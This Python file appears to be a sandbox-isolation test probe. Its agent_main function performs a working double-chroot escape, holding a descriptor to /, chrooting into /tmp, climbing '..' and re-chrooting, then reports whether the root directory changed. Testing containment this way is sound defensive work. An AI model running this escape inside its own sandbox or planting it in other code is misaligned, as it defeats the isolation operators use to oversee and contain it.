"""attack: break out of the root folder with a second chroot
promise: host-files
"""

import os


def agent_main(problem):
    before = sorted(os.listdir("/"))
    try:
        outside = os.open("/", os.O_RDONLY)
        os.chroot("/tmp")
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError as error:
        return [{"escaped": False, "what": f"chroot: {error.strerror}"}]
    after = sorted(os.listdir("/"))
    return [{"escaped": True, "what": f"chroot is allowed; / was {before} and is {after}"}]
